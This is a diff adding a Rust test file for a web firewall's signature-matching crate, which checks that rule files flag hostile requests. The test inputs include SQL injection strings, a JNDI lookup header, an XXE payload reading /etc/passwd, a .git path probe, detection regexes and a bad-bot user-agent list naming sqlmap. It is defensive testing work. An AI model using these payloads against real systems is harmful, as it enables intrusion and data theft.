@@ -1,0 +1,249 @@
+//! Loading and matching signature lists from real files.
+
+use std::path::{Path, PathBuf};
+
+use palisade_engine::{Finding, ResponseModel, Severity};
+use palisade_http::{Headers, RequestModel};
+use palisade_rules::{agent_list, from_dir, SignatureSet};
+
+struct TempDir(PathBuf);
+impl TempDir {
+    fn new(tag: &str) -> TempDir {
+        let p = std::env::temp_dir().join(format!("palisade-rules-{tag}-{}", std::process::id()));
+        let _ = std::fs::remove_dir_all(&p);
+        std::fs::create_dir_all(&p).expect("create temp dir");
+        TempDir(p)
+    }
+    fn write(&self, rel: &str, text: &str) {
+        let path = self.0.join(rel);
+        std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
+        std::fs::write(path, text).expect("write");
+    }
+}
+impl Drop for TempDir {
+    fn drop(&mut self) {
+        let _ = std::fs::remove_dir_all(&self.0);
+    }
+}
+
+fn request(target: &str, headers: &[(&str, &str)], body: Option<(&str, &str)>) -> RequestModel {
+    let mut h = Headers::default();
+    for (n, v) in headers {
+        h.push(*n, v.as_bytes().to_vec());
+    }
+    if let Some((ct, _)) = body {
+        h.push("Content-Type", ct.as_bytes().to_vec());
+    }
+    let mut m = RequestModel::from_head(
+        if body.is_some() { "POST" } else { "GET" },
+        target,
+        "HTTP/1.1",
+        h,
+    );
+    if let Some((_, b)) = body {
+        m.attach_body(b.as_bytes().to_vec(), false);
+    }
+    m
+}
+
+fn run(set: &SignatureSet, req: &RequestModel, paranoia: u8) -> Vec<Finding> {
+    let mut out = Vec::new();
+    set.match_request(req, paranoia, &mut out);
+    out
+}
+
+fn load(dir: &Path) -> SignatureSet {
+    SignatureSet::from_sources(from_dir(dir).expect("read dir")).expect("compile")
+}
+
+#[test]
+fn literal_lists_match_decoded_values_case_insensitively() {
+    let d = TempDir::new("literal");
+    d.write(
+        "args/words.txt",
+        "#@ category: demo\n#@ severity: warning\nevil-token\n",
+    );
+    let set = load(&d.0);
+    // double-encoded and upper case in a query argument
+    let f = run(&set, &request("/s?q=x%2545VIL-TOKEN", &[], None), 1);
+    assert_eq!(f.len(), 1, "{f:?}");
+    assert_eq!(f[0].id, "args/words.txt:3");
+    assert_eq!(f[0].target, "ARGS:q");
+    assert_eq!(f[0].severity, Severity::Warning);
+    assert_eq!(f[0].category, "demo");
+    assert_eq!(f[0].excerpt.to_ascii_lowercase(), "evil-token");
+    // a substring of a longer benign word list entry does not matter: "chrome" ≠ "chr("
+    d.write("args/words.txt", "chr(\n");
+    let set = load(&d.0);
+    assert!(run(&set, &request("/s?ua=chrome", &[], None), 1).is_empty());
+}
+
+#[test]
+fn regex_lists_see_every_location_and_report_it() {
+    let d = TempDir::new("regex");
+    d.write(
+        "args/sqli.re",
+        r"#@ message: union select
+\bunion\s+select\b
+",
+    );
+    let set = load(&d.0);
+    let cases = [
+        request("/p?a=1%20UNION%20SELECT%20x", &[], None),
+        request("/p", &[("Cookie", "sid=1+union+select+2")], None),
+        request("/p", &[("Referer", "http://x/?id=1 union select 2")], None),
+        request(
+            "/p",
+            &[],
+            Some(("application/json", r#"{"user":{"q":"1 union select pw"}}"#)),
+        ),
+        request(
+            "/p",
+            &[],
+            Some((
+                "application/x-www-form-urlencoded",
+                "a=1&b=1+union%0a%09select+2",
+            )),
+        ),
+    ];
+    let targets = [
+        "ARGS:a",
+        "REQUEST_COOKIES:sid",
+        "REQUEST_HEADERS:Referer",
+        "ARGS:user.q",
+        "ARGS:b",
+    ];
+    for (req, want) in cases.iter().zip(targets) {
+        let f = run(&set, req, 1);
+        assert_eq!(f.len(), 1, "{want}: {f:?}");
+        assert_eq!(f[0].target, want);
+        assert_eq!(f[0].message, "union select");
+    }
+    // benign prose with both words apart does not match
+    assert!(run(
+        &set,
+        &request("/p?q=the+union+was+a+great+select", &[], None),
+        1
+    )
+    .is_empty());
+}
+
+#[test]
+fn a_match_never_spans_two_values() {
+    let d = TempDir::new("span");
+    d.write("args/x.re", "foo.*bar\n^bar\n");
+    let set = load(&d.0);
+    assert!(run(&set, &request("/p?a=foo&b=bar1", &[], None), 1)
+        .iter()
+        .all(|f| f.id != "args/x.re:1"));
+    // `^` anchors at the start of each value, not only of the first one
+    let f = run(&set, &request("/p?a=x&b=barx", &[], None), 1);
+    assert_eq!(f.len(), 1);
+    assert_eq!(f[0].target, "ARGS:b");
+    assert!(run(&set, &request("/p?a=x&b=xbar", &[], None), 1).is_empty());
+}
+
+#[test]
+fn paranoia_levels_and_targets_are_respected() {
+    let d = TempDir::new("paranoia");
+    d.write("headers/h.txt", "#@ paranoia: 2\n${jndi:\n");
+    d.write("url/u.txt", "/.git/\n");
+    d.write("body/b.re", r"<!entity\s+\w+\s+system");
+    d.write(
+        "response/leak.txt",
+        "#@ severity: error\nYou have an error in your SQL syntax\n",
+    );
+    let set = load(&d.0);
+    let jndi = request("/", &[("X-Api-Version", "${jndi:ldap://x/a}")], None);
+    assert!(run(&set, &jndi, 1).is_empty());
+    assert_eq!(
+        run(&set, &jndi, 2)[0].target,
+        "REQUEST_HEADERS:X-Api-Version"
+    );
+    assert_eq!(
+        run(&set, &request("/a/%2egit/config", &[], None), 1)[0].target,
+        "REQUEST_URI"
+    );
+    let xxe = request(
+        "/x",
+        &[],
+        Some((
+            "application/xml",
+            "<!DOCTYPE a [<!ENTITY  xxe SYSTEM \"file:///etc/passwd\">]><a>&xxe;</a>",
+        )),
+    );
+    assert_eq!(run(&set, &xxe, 1)[0].target, "REQUEST_BODY");
+    // binary uploads are not scanned as text
+    let bin = request(
+        "/x",
+        &[],
+        Some(("application/octet-stream", "<!ENTITY x SYSTEM")),
+    );
+    assert!(run(&set, &bin, 1).is_empty());
+    let resp = ResponseModel {
+        status: 500,
+        content_type: "text/html".into(),
+        body: b"<b>You have an error in your SQL syntax; check the manual</b>".to_vec(),
+        ..ResponseModel::default()
+    };
+    let mut out = Vec::new();
+    set.match_response(&resp, 1, &mut out);
+    assert_eq!(out.len(), 1);
+    assert_eq!(out[0].target, "RESPONSE_BODY");
+    assert_eq!(out[0].severity, Severity::Error);
+}
+
+#[test]
+fn load_errors_name_the_file_and_line() {
+    let d = TempDir::new("errors");
+    d.write("args/bad.re", "# fine\nok\n(unclosed\n");
+    let err = SignatureSet::from_sources(from_dir(&d.0).expect("read"))
+        .err()
+        .expect("must fail");
+    assert_eq!(err.line, 3);
+    assert!(err.file.ends_with("args/bad.re"), "{err}");
+    assert!(err.to_string().contains("bad.re:3"), "{err}");
+
+    d.write("args/bad.re", "#@ severity: apocalyptic\nx\n");
+    let err = SignatureSet::from_sources(from_dir(&d.0).expect("read"))
+        .err()
+        .expect("must fail");
+    assert_eq!(err.line, 1);
+    d.write("args/bad.re", "#@ transforms: default frobnicate\nx\n");
+    let err = SignatureSet::from_sources(from_dir(&d.0).expect("read"))
+        .err()
+        .expect("must fail");
+    assert!(err.message.contains("frobnicate"), "{err}");
+
+    let d2 = TempDir::new("errors2");
+    d2.write("nonsense/x.txt", "a\n");
+    let err = from_dir(&d2.0).err().expect("unknown dir must fail");
+    assert!(err.message.contains("unknown target directory"), "{err}");
+}
+
+#[test]
+fn bad_user_agent_list_format_is_accepted() {
+    let shared = Path::new(env!("CARGO_MANIFEST_DIR"))
+        .join("../../../shared/data/bad-user-agents/apache-ultimate-bad-bot-blocker/_generator_lists/bad-user-agents.list");
+    let source = if shared.exists() {
+        agent_list(&shared).expect("load shared list")
+    } else {
+        let d = TempDir::new("ua");
+        d.write("bad.list", "1h4x\\.com\nBlack\\ Hole\nsqlmap\n");
+        agent_list(&d.0.join("bad.list")).expect("load list")
+    };
+    let set = SignatureSet::from_sources(vec![source]).expect("compile");
+    let hit = run(
+        &set,
+        &request(
+            "/",
+            &[("User-Agent", "Mozilla/5.0 (compatible; Black Hole)")],
+            None,
+        ),
+        1,
+    );
+    assert!(!hit.is_empty());
+    assert_eq!(hit[0].target, "REQUEST_HEADERS:User-Agent");
+    let browser = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36";
+    assert!(run(&set, &request("/", &[("User-Agent", browser)], None), 1).is_empty());
+}
